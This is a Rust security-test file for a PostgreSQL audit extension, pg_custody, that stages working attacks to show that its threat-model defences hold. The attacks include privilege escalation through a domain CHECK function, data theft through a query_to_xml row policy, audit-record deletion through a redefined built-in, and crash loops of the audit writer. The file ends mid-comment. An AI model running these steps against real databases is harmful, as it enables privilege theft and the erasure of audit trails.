//! Review attacks on the reworked protections (docs/threat-model.md). Each test is one hole:
//! it runs the attack and asserts what the threat model promises, so it fails while the hole
//! exists. Tests that damage a cluster use their own (PGDATA-review_*, shared port + 60..);
//! run with `--test-threads=1`.

use std::time::Duration;

use pg_custody_client_tests::*;

// ---- helpers ---------------------------------------------------------------------------

/// A fresh cluster, stopped when dropped, and a superuser session on it.
fn own(suffix: &str, offset: u16, app: &str) -> (StopOnDrop, Client) {
    let cluster = StopOnDrop(Cluster::own(suffix, offset));
    let c = cluster.connect(app);
    (cluster, c)
}

/// `n` pseudo-random characters of a 64-letter alphabet (pglz cannot compress them).
fn incompressible(n: usize, mut seed: u64) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    (0..n)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            ALPHABET[(seed % 64) as usize] as char
        })
        .collect()
}

/// "ok" or the error of a statement, for messages.
fn outcome<T>(r: &Result<T, postgres::Error>) -> String {
    match r {
        Ok(_) => "ok".into(),
        Err(e) => format!("error {}", e.as_db_error().map_or(e.to_string(), |d| format!("{}: {}", d.code().code(), d.message()))),
    }
}

/// Records anywhere in the log containing `needle` in any column.
fn log_rows_containing(c: &mut Client, needle: &str) -> Vec<String> {
    c.query(
        "SELECT seq::text || ' ' || command || ': ' || left(l::text, 300) FROM custody.audit_log l \
         WHERE strpos(l::text, $1) > 0 ORDER BY seq",
        &[&needle],
    )
    .unwrap()
    .iter()
    .map(|r| r.get(0))
    .collect()
}

fn alarm(c: &mut Client) -> Option<String> {
    c.query_one("SELECT custody.status()->>'alarm'", &[]).unwrap().get(0)
}

fn head_mismatches(c: &mut Client) -> i64 {
    query_i64(c, "SELECT count(*) FROM custody.audit_log WHERE command = 'HEAD MISMATCH'", &[])
}

fn is_superuser(c: &mut Client, role: &str) -> bool {
    c.query_one("SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = $1", &[&role]).unwrap().get(0)
}

/// The stored record `seq` as the verifier reads it, with its stored prev_hash and hash.
fn read_record(c: &mut Client, seq: i64) -> (custody_chain::Record, Vec<u8>, Vec<u8>) {
    let r = c
        .query_one(
            "SELECT seq, (extract(epoch FROM event_time) * 1000000)::int8, \
                    (extract(epoch FROM logged_at) * 1000000)::int8, database_name, session_user_name, \
                    current_user_name, host(client_addr), application_name, backend_pid, nesting_level, xid, \
                    class, command, objects::text, statement, statement_sha256, rows, outcome, sqlstate, \
                    message, decision::text, prev_hash, hash \
             FROM custody.audit_log WHERE seq = $1",
            &[&seq],
        )
        .unwrap_or_else(|e| panic!("read record {seq}: {e}"));
    let objects: String = r.get(13);
    let decision: Option<String> = r.get(20);
    let rec = custody_chain::Record {
        seq: r.get(0),
        event_time: r.get(1),
        logged_at: r.get(2),
        database_name: r.get(3),
        session_user_name: r.get(4),
        current_user_name: r.get(5),
        client_addr: r.get(6),
        application_name: r.get(7),
        backend_pid: r.get(8),
        nesting_level: r.get(9),
        xid: r.get(10),
        class: r.get(11),
        command: r.get(12),
        objects: serde_json::from_str(&objects).unwrap(),
        statement: r.get(14),
        statement_sha256: r.get(15),
        rows: r.get(16),
        outcome: r.get(17),
        sqlstate: r.get(18),
        message: r.get(19),
        decision: decision.map(|d| serde_json::from_str(&d).unwrap()),
    };
    (rec, r.get(21), r.get(22))
}

fn hash32(v: &[u8]) -> [u8; 32] {
    v.try_into().expect("a 32-byte hash")
}

/// Inserts a copy of record `template` (library unloaded) as record `seq`, with `statement`
/// (None: keep the template's), `prev_hash` and `hash`.
fn insert_copy(c: &mut Client, template: i64, seq: i64, statement: Option<&str>, prev: &[u8], hash: &[u8]) {
    let n = c
        .execute(
            "INSERT INTO custody.audit_log (seq, event_time, logged_at, database_name, session_user_name, \
               current_user_name, client_addr, application_name, backend_pid, nesting_level, xid, class, command, \
               objects, statement, statement_sha256, rows, outcome, sqlstate, message, decision, prev_hash, hash) \
             SELECT $1, event_time, logged_at, database_name, session_user_name, current_user_name, client_addr, \
               application_name, backend_pid, nesting_level, xid, class, command, objects, \
               coalesce($2, statement), CASE WHEN $2 IS NULL THEN statement_sha256 END, rows, outcome, sqlstate, \
               message, decision, $3, $4 \
             FROM custody.audit_log WHERE seq = $5",
            &[&seq, &statement, &prev, &hash, &template],
        )
        .unwrap_or_else(|e| panic!("insert forged record {seq}: {e}"));
    assert_eq!(n, 1, "template {template} not found");
}

/// A role with LOGIN and a schema of its own; dropped (with what it owns) by `cleanup`.
fn role_with_schema(su: &mut Client, cleanup: &mut CleanupOnDrop, role: &str, extra: &str) {
    su.batch_execute(&format!("CREATE ROLE {role} LOGIN {extra}; CREATE SCHEMA {role} AUTHORIZATION {role}")).unwrap();
    cleanup.add(format!("DROP SCHEMA IF EXISTS {role} CASCADE"));
    cleanup.add(format!("DROP OWNED BY {role}"));
    cleanup.add(format!("DROP ROLE IF EXISTS {role}"));
}

// ---- 1. pg_custody's own work ----------------------------------------------------------

/// Attack (superuser, SQL only): redefine a built-in function that pg_custody's own SQL
/// calls — `CREATE OR REPLACE FUNCTION pg_catalog.extract(text, timestamptz) ... LANGUAGE
/// sql AS 'SELECT public.evil($2)'` (no allow_system_table_mods needed). The planner inlines
/// the new SQL body into the custody writer's policy-store query (EXTRACT(epoch FROM
/// valid_from)), so after a writer restart (pg_terminate_backend) public.evil() runs inside
/// the writer, where everything is "pg_custody's own": its DELETE FROM custody.audit_log is
/// neither refused nor recorded.
/// Defence promised: pinned names resolve only built-ins, superusers cannot "redefine ...
/// edit catalog rows that describe ... built-in objects" (42501, recorded), no user code
/// runs inside pg_custody's work, and the trail cannot be changed while loaded: the record
/// survives and the chain verifies.
#[test]
fn redefined_builtin_runs_user_code_inside_the_writer() {
    let (_cluster, mut c) = own("review_builtin", 60, "rv_builtin");
    let m = marker("rv_builtin");
    let hidden = format!("SELECT '{m} incriminating'");
    c.simple_query(&hidden).unwrap();
    flush(&mut c);
    let target = assert_recorded(&mut c, &hidden, "success", None).seq;
    // One attribute, so that the writer's snapshot query has a row to EXTRACT from.
    c.batch_execute("SELECT custody.set_attribute('postgres', 'review', '1')").unwrap();
    c.batch_execute(&format!(
        r#"CREATE TABLE public.rv_target (seq bigint); INSERT INTO public.rv_target VALUES ({target});
CREATE TABLE public.rv_ran (backend text, deleted bigint);
CREATE FUNCTION public.rv_evil(ts timestamptz) RETURNS numeric LANGUAGE plpgsql AS $f$
DECLARE bt text; n bigint;
BEGIN
  SELECT backend_type INTO bt FROM pg_catalog.pg_stat_activity WHERE pid = pg_catalog.pg_backend_pid();
  IF bt = 'pg_custody writer' THEN
    DELETE FROM custody.audit_log WHERE seq IN (SELECT seq FROM public.rv_target);
    GET DIAGNOSTICS n = ROW_COUNT;
    INSERT INTO public.rv_ran VALUES (bt, n);
  END IF;
  RETURN pg_catalog.date_part('epoch', ts)::numeric;
END $f$"#
    ))
    .unwrap();
    let redefine = "CREATE OR REPLACE FUNCTION pg_catalog.extract(text, timestamptz) RETURNS numeric \
                    LANGUAGE sql VOLATILE AS $f$ SELECT public.rv_evil($2) $f$";
    let redefined = c.simple_query(redefine);
    if let Err(e) = &redefined {
        let code = e.code().map(|s| s.code().to_string()).unwrap_or_default();
        assert_eq!(code, "42501", "redefinition of a built-in failed, but not as a refusal: {e}");
    } else {
        let old = writer_pid(&mut c).expect("a writer runs");
        c.query_one("SELECT pg_terminate_backend($1)", &[&old]).unwrap();
        wait_new_writer(&mut c, old, Duration::from_secs(10));
        std::thread::sleep(Duration::from_secs(2)); // the new writer loads the store snapshot
    }
    flush(&mut c);
    let ran: Vec<String> = c
        .query("SELECT backend || ' deleted ' || deleted FROM public.rv_ran", &[])
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    let still = query_i64(&mut c, "SELECT count(*) FROM custody.audit_log WHERE seq = $1", &[&target]);
    let v = verify(&mut c);
    assert!(
        redefined.is_err() && ran.is_empty() && still == 1 && v.ok,
        "redefining pg_catalog.extract() was {}; user code ran as {ran:?}; record {target} present: {still}; verify: {v:?}",
        if redefined.is_ok() { "allowed" } else { "refused" }
    );
}

/// Attack (custody_admin member, not a superuser, owns the table): create a row policy whose
/// expression holds a literal of her composite type whose column is a domain with a CHECK
/// calling her function: `'(1)'::adm.c IS NOT NULL`. create_row_policy runs the CREATE POLICY
/// "with the extension owner's rights"; parsing the literal runs the domain's CHECK, i.e. her
/// function, as the bootstrap superuser, and it executes `ALTER ROLE adm SUPERUSER`. The
/// stored expression calls no function, so the confinement check has nothing to refuse.
/// Defence promised: a custody_admin member cannot "make pg_custody's functions run their
/// code" nor become more through pg_custody; she is not a superuser afterwards.
#[test]
fn row_policy_expression_runs_custody_admin_code_as_superuser() {
    let cluster = Cluster::shared();
    let m = marker("rv_esc");
    let adm = format!("{m}_adm");
    let mut su = cluster.connect("rv_esc_setup");
    let mut cleanup = CleanupOnDrop::new(&cluster);
    cleanup.add(format!("SELECT custody.drop_row_policy('{m}_p')"));
    role_with_schema(&mut su, &mut cleanup, &adm, "");
    su.batch_execute(&format!("GRANT custody_admin TO {adm}")).unwrap();
    let mut a = cluster.connect_as(&adm, "rv_esc_admin");
    a.batch_execute(&format!(
        r#"CREATE FUNCTION {adm}.chk(int) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE {adm} SUPERUSER;
  END IF;
  RETURN true;
END $f$;
CREATE DOMAIN {adm}.d AS int CHECK ({adm}.chk(VALUE));
CREATE TYPE {adm}.c AS (a {adm}.d);
CREATE TABLE {adm}.t (x int);"#
    ))
    .unwrap();
    assert!(!is_superuser(&mut su, &adm), "setup: {adm} is already a superuser");
    let call = format!(
        "SELECT custody.create_row_policy('{m}_p', '{adm}.t', 'select', $x$'(1)'::{adm}.c IS NOT NULL$x$)"
    );
    let result = a.simple_query(&call);
    let escalated = is_superuser(&mut su, &adm);
    assert!(!escalated, "custody_admin member {adm} became a superuser through create_row_policy ({})", outcome(&result));
}

/// Attack (custody_admin member, does not own the table): a row policy that uses only a
/// built-in function — `query_to_xml('select adm.steal()', false, false, '') IS NOT NULL` —
/// which runs any SQL it is given. Every reader of the table (here its owner, under the
/// FORCE ROW LEVEL SECURITY pg_custody sets) then runs adm.steal() with the reader's
/// privileges: it copies the owner's private table into the admin's.
/// Defence promised: "may use only built-in functions and pg_custody's functions there ...
/// anything else would let them run code of their choosing as every reader": refused with
/// 42501, or at least none of her code runs as a reader.
#[test]
fn row_policy_builtin_that_runs_sql_executes_admin_code_as_readers() {
    let cluster = Cluster::shared();
    let m = marker("rv_xml");
    let (adm, owner) = (format!("{m}_adm"), format!("{m}_own"));
    let mut su = cluster.connect("rv_xml_setup");
    let mut cleanup = CleanupOnDrop::new(&cluster);
    cleanup.add(format!("SELECT custody.drop_row_policy('{m}_p')"));
    role_with_schema(&mut su, &mut cleanup, &adm, "");
    role_with_schema(&mut su, &mut cleanup, &owner, "");
    su.batch_execute(&format!(
        "GRANT custody_admin TO {adm}; GRANT USAGE ON SCHEMA {owner} TO PUBLIC; \
         CREATE TABLE {owner}.t (tenant int); ALTER TABLE {owner}.t OWNER TO {owner}; INSERT INTO {owner}.t VALUES (1); \
         CREATE TABLE {owner}.private (x text); ALTER TABLE {owner}.private OWNER TO {owner}; \
         INSERT INTO {owner}.private VALUES ('crown jewels')"
    ))
    .unwrap();
    let mut a = cluster.connect_as(&adm, "rv_xml_admin");
    a.batch_execute(&format!(
        r#"CREATE TABLE {adm}.loot (who text, what text); GRANT INSERT ON {adm}.loot TO PUBLIC;
GRANT USAGE ON SCHEMA {adm} TO PUBLIC;
CREATE FUNCTION {adm}.steal() RETURNS int LANGUAGE plpgsql AS $f$
BEGIN
  INSERT INTO {adm}.loot SELECT current_user, string_agg(x, ',') FROM {owner}.private;
  RETURN 1;
EXCEPTION WHEN others THEN RETURN 1;
END $f$;"#
    ))
    .unwrap();
    let call = format!(
        "SELECT custody.create_row_policy('{m}_p', '{owner}.t', 'select', \
         $x$query_to_xml('select {adm}.steal()', false, false, '') IS NOT NULL$x$)"
    );
    let created = a.simple_query(&call);
    let mut o = cluster.connect_as(&owner, "rv_xml_owner");
    let _ = o.simple_query(&format!("SELECT * FROM {owner}.t"));
    let loot: Vec<String> = a
        .query(&format!("SELECT who || ': ' || coalesce(what, '') FROM {adm}.loot"), &[])
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    assert!(
        created.is_err() && loot.is_empty(),
        "row policy with query_to_xml(): {}; the admin's code ran as readers: {loot:?}",
        outcome(&created)
    );
}

/// Attack (custody_admin member, does not own the table): the table's owner enabled row
/// security with no policy at all, so readers granted SELECT see no row (PostgreSQL's
/// default deny). The admin adds a row policy `USING (true)`: create_row_policy adds
/// `custody_permit_all` (PERMISSIVE, USING true) because the table has no permissive policy,
/// and every grantee now reads every row.
/// Defence promised: row policies are RESTRICTIVE and stay within the admin's authority:
/// "installing pg_custody must not open a path that did not exist without it". Readers still
/// see no row.
#[test]
fn row_policy_of_custody_admin_opens_a_deny_by_default_table() {
    let cluster = Cluster::shared();
    let m = marker("rv_permit");
    let (adm, owner, reader) = (format!("{m}_adm"), format!("{m}_own"), format!("{m}_rd"));
    let mut su = cluster.connect("rv_permit_setup");
    let mut cleanup = CleanupOnDrop::new(&cluster);
    cleanup.add(format!("SELECT custody.drop_row_policy('{m}_p')"));
    role_with_schema(&mut su, &mut cleanup, &adm, "");
    role_with_schema(&mut su, &mut cleanup, &owner, "");
    role_with_schema(&mut su, &mut cleanup, &reader, "");
    su.batch_execute(&format!(
        "GRANT custody_admin TO {adm}; GRANT USAGE ON SCHEMA {owner} TO PUBLIC; \
         CREATE TABLE {owner}.locked (x text); ALTER TABLE {owner}.locked OWNER TO {owner}; \
         INSERT INTO {owner}.locked VALUES ('hidden row'); \
         GRANT SELECT ON {owner}.locked TO {reader}; ALTER TABLE {owner}.locked ENABLE ROW LEVEL SECURITY"
    ))
    .unwrap();
    let mut r = cluster.connect_as(&reader, "rv_permit_reader");
    let q = format!("SELECT count(*) FROM {owner}.locked");
    assert_eq!(query_i64(&mut r, &q, &[]), 0, "setup: the reader already sees rows");
    let mut a = cluster.connect_as(&adm, "rv_permit_admin");
    let created = a.simple_query(&format!("SELECT custody.create_row_policy('{m}_p', '{owner}.locked', 'select', 'true')"));
    let seen = query_i64(&mut r, &q, &[]);
    assert_eq!(seen, 0, "after the admin's restrictive row policy ({}) the reader sees {seen} rows", outcome(&created));
}

// ---- 4. nothing runs unrecorded -----------------------------------------------------------

/// Attack (ordinary role): PostgreSQL evaluates IMMUTABLE functions with constant arguments
/// while planning, and the extended protocol plans at Bind, before ExecutorStart, where
/// pg_custody opens the record and applies the gate. Parse + Bind (no Execute) of `INSERT
/// INTO s.t VALUES (s.imm(4242))` runs s.imm(), which moves a sequence (setval), and leaves
/// no record at all. Variant: the role is suspended; `SELECT s.imm(5151)` is denied, but
/// only after the planner already ran it.
/// Defence promised: every statement is recorded, refusals included; a suspended role's
/// statements are denied (its code does not run).
#[test]
fn code_run_while_planning_escapes_the_record_and_the_gate() {
    let cluster = Cluster::shared();
    let m = marker("rv_plan");
    let mut su = cluster.connect("rv_plan_setup");
    let mut cleanup = CleanupOnDrop::new(&cluster);
    cleanup.add(format!("SELECT custody.resume('{m}')"));
    role_with_schema(&mut su, &mut cleanup, &m, "");
    let mut u = cluster.connect_as(&m, "rv_plan");
    u.batch_execute(&format!(
        "CREATE SEQUENCE {m}.s; CREATE TABLE {m}.t (v int); \
         CREATE FUNCTION {m}.imm(v int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS \
         $f$ DECLARE x bigint; BEGIN x := pg_catalog.setval('{m}.s', v); RETURN v; END $f$"
    ))
    .unwrap();
    let last = |su: &mut Client| query_i64(su, &format!("SELECT last_value FROM {m}.s"), &[]);

    let stmt = format!("INSERT INTO {m}.t VALUES ({m}.imm(4242))");
    let mut tx = u.transaction().unwrap();
    let prepared = tx.prepare(&stmt).unwrap();
    let _portal = tx.bind(&prepared, &[]).unwrap();
    drop(_portal);
    tx.commit().unwrap();
    let ran_bound = last(&mut su);
    flush(&mut u);
    let bound_records = records_of_statement(&mut su, &stmt);

    su.batch_execute(&format!("SELECT custody.suspend('{m}', 'review')")).unwrap();
    let denied = u.simple_query(&format!("SELECT {m}.imm(5151)"));
    su.batch_execute(&format!("SELECT custody.resume('{m}')")).unwrap();
    let ran_denied = last(&mut su);
    assert!(
        !bound_records.is_empty() && ran_denied != 5151,
        "Bind without Execute ran {m}.imm() (sequence at {ran_bound}) with records {bound_records:?}; \
         suspended: {}, yet its function ran (sequence at {ran_denied})",
        outcome(&denied)
    );
}

/// Attack (ordinary role, default settings): custody.audit_catalog = off skips reads of the
/// catalogs that call only safe built-ins. A literal of the role's composite type whose
/// column is a domain with a CHECK calling its own function — `SELECT '(1)'::s.comp FROM
/// pg_catalog.pg_class LIMIT 1` — runs that function (here: setval on its sequence) while
/// the statement is parsed, and the statement still looks like a plain catalog read: nothing
/// is recorded. Variant: jsonb_populate_record(NULL::s.comp, ...) (a STABLE built-in) runs
/// the CHECK at execution.
/// Defence promised: "user functions and operators are recorded"; only reads that call
/// nothing but built-in functions (and depend on no function or domain that is not built
/// in) are skipped.
#[test]
fn catalog_read_hides_user_code_behind_a_composite_of_a_domain() {
    let cluster = Cluster::shared();
    let m = marker("rv_cat");
    let mut su = cluster.connect("rv_cat_setup");
    let mut cleanup = CleanupOnDrop::new(&cluster);
    role_with_schema(&mut su, &mut cleanup, &m, "");
    let mut u = cluster.connect_as(&m, "rv_cat");
    u.batch_execute(&format!(
        "CREATE SEQUENCE {m}.s; \
         CREATE FUNCTION {m}.chk(v int) RETURNS boolean LANGUAGE plpgsql AS \
         $f$ DECLARE x bigint; BEGIN x := pg_catalog.setval('{m}.s', 1000 + v); RETURN true; END $f$; \
         CREATE DOMAIN {m}.d AS int CHECK ({m}.chk(VALUE)); CREATE TYPE {m}.comp AS (a {m}.d)"
    ))
    .unwrap();
    let attempts = [
        (format!("SELECT '(1)'::{m}.comp AS hidden FROM pg_catalog.pg_class LIMIT 1"), 1001),
        (
            format!("SELECT (jsonb_populate_record(NULL::{m}.comp, '{{\"a\": 2}}')).a FROM pg_catalog.pg_class LIMIT 1"),
            1002,
        ),
    ];
    let mut missing = Vec::new();
    for (sql, expect) in &attempts {
        u.simple_query(sql).unwrap();
        let at = query_i64(&mut su, &format!("SELECT last_value FROM {m}.s"), &[]);
        assert_eq!(at, *expect, "{sql}: the user function did not run");
        flush(&mut u);
        if records_of_statement(&mut su, sql).is_empty() {
            missing.push(sql.clone());
        }
    }
    assert!(missing.is_empty(), "statements that ran the role's function are not recorded: {missing:?}");
}

/// Attack (ordinary role): a statement whose error message is larger than the queue can
/// take (`SELECT setval('s', 31337) + repeat('x', <half the queue>)::int`: 22P02 quotes the
/// whole text) fails, and its record is dropped at abort as "could not be queued": the
/// chain shows only an anonymous GAP. The setval survives the rollback.
/// Defence promised: every statement is recorded, refusals and failures included (with its
/// SQLSTATE and message); a record is never dropped for what the session put in it.
#[test]
fn oversized_error_message_turns_a_statement_into_a_gap() {
    let cluster = Cluster::shared();
    let m = marker("rv_gap");
    let mut su = cluster.connect("rv_gap_setup");
    let mut cleanup = CleanupOnDrop::new(&cluster);
    role_with_schema(&mut su, &mut cleanup, &m, "");
    let cap = query_i64(&mut su, "SELECT (custody.status()->>'queue_bytes_capacity')::int8", &[]);
    let mut u = cluster.connect_as(&m, "rv_gap");
    u.batch_execute(&format!("CREATE SEQUENCE {m}.s")).unwrap();
    let sql = format!(
        "SELECT /* {m} */ pg_catalog.setval('{m}.s', 31337) + repeat('x', {} + (random() * 0)::int)::int",
        cap / 2 + 100_000
    );
    let r = u.simple_query(&sql);
    assert!(r.is_err(), "the statement should fail");
    assert_eq!(query_i64(&mut su, &format!("SELECT last_value FROM {m}.s"), &[]), 31337, "setval did not run");
    flush(&mut u);
    let recs = records_where(&mut su, "custody.audit_log", "strpos(statement, $1) > 0", &[&m.as_str()]);
    let failed: Vec<&Rec> = recs.iter().filter(|r| r.outcome == "error" && r.statement.as_deref().unwrap_or("").contains("setval")).collect();
    assert_eq!(failed.len(), 1, "the failed statement has no record (records with the marker: {recs:?})");
    assert_eq!(failed[0].sqlstate.as_deref(), Some("22P02"), "{:?}", failed[0]);
}

// ---- writer: blocked or stopped ----------------------------------------------------------

/// Attack (a superuser adds an index the rules allow — CONCURRENTLY, plain column, brin,
/// built-in operator class; BRIN is not among the refused btree/hash on unbounded columns —
/// then any ordinary role): `CREATE INDEX CONCURRENTLY ON custody.audit_log USING brin
/// (statement)`; an ordinary role sends one statement of 20 kB of incompressible text that
/// sorts above every stored statement. The writer's insert fails ("index row size ...
/// exceeds maximum 8152"), the writer exits, restarts, retries the same record, forever:
/// nothing is stored any more, and every writing transaction fails at COMMIT.
/// Defence promised: indexes on the log may not "fail while the writer inserts"; the writer
/// cannot be stopped quietly. The other session's COMMIT succeeds and the record is stored.
#[test]
fn brin_index_on_statement_lets_one_statement_stop_the_writer() {
    let (cluster, mut c) = own("review_brin", 61, "rv_brin");
    c.batch_execute("CREATE ROLE rv_mallory LOGIN; CREATE TABLE public.rv_t (v int); GRANT INSERT ON public.rv_t TO PUBLIC")
        .unwrap();
    let index = c.simple_query("CREATE INDEX CONCURRENTLY rv_stmt_brin ON custody.audit_log USING brin (statement)");
    if let Err(e) = &index {
        // Refused: nothing more to show.
        assert_eq!(e.code().map(|s| s.code()), Some("42501"), "{e}");
        return;
    }
    let mut u = cluster.connect_as("rv_mallory", "rv_brin_mallory");
    let long = format!("with x as (select 1) select length('{}')", incompressible(20_000, 0x1234_5678));
    u.simple_query(&long).unwrap();
    std::thread::sleep(Duration::from_secs(2));
    let mut other = cluster.connect("rv_brin_other");
    let (commit, took) = timed(|| other.simple_query("INSERT INTO public.rv_t VALUES (1)"));
    let stored: bool = u.query_one("SELECT custody.flush(3000)", &[]).unwrap().get(0);
    let state: Option<String> = c.query_one("SELECT custody.status()->>'state'", &[]).unwrap().get(0);
    let _ = c.simple_query("DROP INDEX CONCURRENTLY custody.rv_stmt_brin");
    assert!(
        commit.is_ok() && stored,
        "after one long statement the writer is {state:?}: another session's INSERT: {} after {took:?}; \
         the statement's record stored: {stored}",
        outcome(&commit)
    );
    drop(cluster);
}

/// Attack (a superuser adds a B-tree index the rules allow — application_name is not among
/// the "unbounded" columns — then anyone who can reach the socket, without a role):
/// `CREATE INDEX CONCURRENTLY ON custody.audit_log (application_name)`; a client sends a
/// startup packet for a role that does not exist, with an 8 kB incompressible
/// application_name. PostgreSQL truncates the setting, but the failed LOGIN record takes
/// the name from the startup packet as sent; the B-tree insert fails ("index row size ...
/// exceeds btree version 4 maximum"), and the writer crash-loops on that record for ever.
/// Defence promised: indexes on the log cannot make the writer's insert fail; failed logins
/// are recorded; the writer cannot be stopped. The next writing transaction commits.
#[test]
fn failed_login_with_long_application_name_stops_the_writer() {
    use std::io::{Read, Write};
    let (cluster, mut c) = own("review_appname", 66, "rv_app");
    c.batch_execute("CREATE TABLE public.rv_t (v int)").unwrap();
    let index = c.simple_query("CREATE INDEX CONCURRENTLY rv_app_idx ON custody.audit_log (application_name)");
    if let Err(e) = &index {
        assert_eq!(e.code().map(|s| s.code()), Some("42501"), "{e}");
        return;
    }
    // StartupMessage: protocol 3.0, user, database, application_name.
    let app = incompressible(8000, 0xfeed_f00d).replace(['+', '/'], "x");
    let mut body = 196608i32.to_be_bytes().to_vec();
    for (k, v) in [("user", "rv_no_such_role"), ("database", "postgres"), ("application_name", app.as_str())] {
        body.extend_from_slice(k.as_bytes());
        body.push(0);
        body.extend_from_slice(v.as_bytes());
        body.push(0);
    }
    body.push(0);
    let mut packet = ((body.len() + 4) as i32).to_be_bytes().to_vec();
    packet.extend_from_slice(&body);
    let mut sock = std::os::unix::net::UnixStream::connect(format!("/tmp/.s.PGSQL.{}", cluster.port)).unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    sock.write_all(&packet).unwrap();
    let mut reply = Vec::new();
    let _ = sock.read_to_end(&mut reply);
    assert!(String::from_utf8_lossy(&reply).contains("does not exist"), "setup: the login did not fail as expected");
    std::thread::sleep(Duration::from_secs(2));
    let (commit, took) = timed(|| c.simple_query("INSERT INTO public.rv_t VALUES (1)"));
    let state: Option<String> = c.query_one("SELECT custody.status()->>'state'", &[]).unwrap().get(0);
    let _ = c.simple_query("DROP INDEX CONCURRENTLY custody.rv_app_idx");
    assert!(
        commit.is_ok(),
        "after one failed login the writer is {state:?}; the next INSERT: {} after {took:?}",
        outcome(&commit)
    );
}

/// Attack (custody_admin member): a Rego policy whose deny message contains the character
/// U+0000 (`deny contains "bad\u0000byte" if { ... }`, valid Rego). The first statement it
/// denies is recorded with that message in its decision; the writer's jsonb_in refuses
/// `\u0000` ("unsupported Unicode escape sequence"), the writer exits and retries the same
/// queued record for ever. Dropping the policy does not help (the record stays queued, and
/// the store change itself cannot commit): nothing is recorded until the server restarts.
/// Defence promised: custody_admin manages policies, nothing more; "the writer cannot be
/// stopped quietly"; every decision is recorded. The next writing transaction commits.
#[test]
fn policy_message_with_nul_stops_the_writer() {
    let (cluster, mut c) = own("review_nul", 67, "rv_nul");
    c.batch_execute(
        "CREATE ROLE rv_admin LOGIN; GRANT custody_admin TO rv_admin; CREATE ROLE rv_victim LOGIN; \
         CREATE TABLE public.rv_t (v int)",
    )
    .unwrap();
    let mut a = cluster.connect_as("rv_admin", "rv_nul_admin");
    a.batch_execute(
        "SELECT custody.set_policy('rv_nul', $rego$
package custody
deny contains \"bad\\u0000byte\" if {
    input.subject.session_user == \"rv_victim\"
}
$rego$)",
    )
    .unwrap();
    let mut v = cluster.connect_as("rv_victim", "rv_nul_victim");
    let denied = v.simple_query("SELECT 1");
    assert_eq!(denied.as_ref().err().and_then(|e| e.code()).map(|s| s.code()), Some("42501"), "setup: not denied");
    std::thread::sleep(Duration::from_secs(2));
    let (commit, took) = timed(|| c.simple_query("INSERT INTO public.rv_t VALUES (1)"));
    let state: Option<String> = c.query_one("SELECT custody.status()->>'state'", &[]).unwrap().get(0);
    assert!(
        commit.is_ok(),
        "after one denial with a NUL in its message the writer is {state:?}; the next INSERT: {} after {took:?}",
        outcome(&commit)
    );
}

/// Attack (superuser): `BEGIN; REINDEX TABLE pg_toast.pg_toast_<audit_log>` (or REINDEX
/// INDEX of its index), then stay in the transaction. The TOAST table of the log is not
/// recognised as part of it, so REINDEX without CONCURRENTLY is allowed; it holds a SHARE
/// lock on the TOAST table, and the writer's next insert of a long record waits for it:
/// records pile up and every writing transaction fails at COMMIT after failure_timeout.
/// Defence promised: "Locks that would block the writer are refused at once with a clear
/// error ... REINDEX without CONCURRENTLY (table, index, schema, database)": 42501.
#[test]
fn reindex_of_the_logs_toast_table_blocks_the_writer() {
    let (cluster, mut c) = own("review_toast", 62, "rv_toast");
    let toast: String = c
        .query_one("SELECT reltoastrelid::regclass::text FROM pg_class WHERE oid = 'custody.audit_log'::regclass", &[])
        .unwrap()
        .get(0);
    let toast_index: String = c
        .query_one("SELECT indexrelid::regclass::text FROM pg_index WHERE indrelid = $1::text::regclass", &[&toast])
        .unwrap()
        .get(0);
    c.batch_execute("CREATE TABLE public.rv_t (v int)").unwrap();
    let mut results = Vec::new();
    for sql in [format!("REINDEX TABLE {toast}"), format!("REINDEX INDEX {toast_index}")] {
        c.batch_execute("BEGIN").unwrap();
        match c.simple_query(&sql) {
            Err(e) => {
                let code = e.code().map(|s| s.code().to_string()).unwrap_or_default();
                c.batch_execute("ROLLBACK").unwrap();
                if code != "42501" {
                    results.push(format!("{sql}: failed with {code}: {e}"));
                }
            }
            Ok(_) => {
                // Held: show what it does to everyone else.
                let mut u = cluster.connect("rv_toast_other");
                u.simple_query(&format!("SELECT length('{}')", incompressible(12_000, 77))).unwrap();
                let (commit, took) = timed(|| u.simple_query("INSERT INTO public.rv_t VALUES (1)"));
                c.batch_execute("ROLLBACK").unwrap();
                results.push(format!(
                    "{sql}: allowed; meanwhile another session's INSERT: {} after {took:?}",
                    outcome(&commit)
                ));
            }
        }
    }
    assert!(results.is_empty(), "{results:#?}");
}

/// Attack (ordinary role): pg_custody serializes every change of the policy store with
/// `pg_advisory_xact_lock(0x637573746f6479)`, a key in the advisory-lock space every role
/// may use. A role about to be suspended takes `pg_advisory_lock(27995161429501049)` first
/// and keeps its session open: custody.suspend() (and every other store change) waits for
/// ever.
/// Defence promised: any other role gets "what its privileges allow" and cannot influence
/// pg_custody's own work; custody_admin and superusers manage suspensions. The suspension
/// succeeds at once.
#[test]
fn advisory_lock_of_any_role_blocks_suspending_it() {
    let cluster = Cluster::shared();
    let m = marker("rv_lock");
    let mut su = cluster.connect("rv_lock_setup");
    let mut cleanup = CleanupOnDrop::new(&cluster);
    cleanup.add(format!("SELECT custody.resume('{m}')"));
    role_with_schema(&mut su, &mut cleanup, &m, "");
    let mut u = cluster.connect_as(&m, "rv_lock");
    u.batch_execute("SELECT pg_advisory_lock(27995161429501049)").unwrap();
    su.batch_execute("SET statement_timeout = '5s'").unwrap();
    let (r, took) = timed(|| su.simple_query(&format!("SELECT custody.suspend('{m}', 'caught')")));
    su.batch_execute("RESET statement_timeout").unwrap();
    drop(u);
    assert!(r.is_ok(), "custody.suspend('{m}') while {m} holds an advisory lock: {} after {took:?}", outcome(&r));
}

/// Attack (superuser, SQL protocol only): connect for replication with
/// `options='-c log_min_messages=fatal'` in the startup packet (a superuser may set it) and
/// run IDENTIFY_SYSTEM (as a variant, a BASE_BACKUP would be the same). pg_custody sees
